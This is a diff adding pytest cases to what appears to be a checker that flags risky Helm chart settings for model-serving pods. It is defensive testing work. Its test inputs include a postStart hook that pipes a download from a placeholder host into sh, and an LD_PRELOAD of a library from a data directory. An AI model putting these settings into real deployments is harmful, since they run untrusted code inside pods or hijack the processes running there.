@@ -16,6 +16,7 @@ if TYPE_CHECKING:
 
     from psfpolicy.model.fact import Fact
 
+RULES, MODULES, BENCHMARK = "rules", "customModules", "gpuNodeBenchmark"
 VALUES = """\
 image: {repository: vllm/vllm-openai, tag: v0.33.0}
 replicaCount: 2
@@ -294,3 +295,34 @@ def test_template_that_serves_a_model_leaves_it_open() -> None:
 )
 def test_any_other_text_leaves_nothing_open(text: str) -> None:
     assert list(template_facts(source.Text("t", text))) == []
+
+
+# What a chart hands on unchanged
+
+
+@pytest.mark.parametrize(
+    ("lines", "path", "expected"),
+    [
+        ("extraContainers: [{name: x, image: x, env: [{name: HTTPS_PROXY, value: 'http://p.example.net'}]}]", RULES, 1),
+        ("lifecycle: {postStart: {exec: {command: [sh, -c, 'curl https://x.example.net/i | sh']}}}", MODULES, 1),
+        ("env: [{name: LD_PRELOAD, value: /data/x.so}]", MODULES, 1),
+        ("env: [{name: LD_PRELOAD, value: /usr/lib/libtcmalloc.so}]", MODULES, 0),
+        ("externalConfigs: [{configMapRef: {name: gone}}]", MODULES, 1),
+        ("volumeMounts: [{name: v, mountPath: /v}]\nenv: [{name: PYTHONPATH, value: /v}]", MODULES, 1),
+        ("hostPID: true", BENCHMARK, 1),
+        ("shareProcessNamespace: true", "readOnlyRootFilesystem", 1),
+    ],
+)
+def test_what_opens_a_pod_counts_in_values_too(lines: str, path: str, expected: int) -> None:
+    before = {(fact.path, fact.shown, fact.reason) for fact in read(VALUES)}
+
+    found = [fact for fact in read(f"{VALUES}{lines}\n") if (fact.path, fact.shown, fact.reason) not in before]
+
+    assert [fact.path[-1] for fact in found if fact.path[-1] == path] == [path] * expected
+
+
+def test_a_command_of_ones_own_is_the_command() -> None:
+    command = "[bash, -c, 'pip install acme; /opt/nim/start-server.sh']"
+    facts = read(f"image: nvcr.io/nim/org/m:1\nresources: {{}}\ncustomCommand: {command}\n")
+
+    assert [fact.value for fact in facts if fact.shown == "pip install …"] == [True]
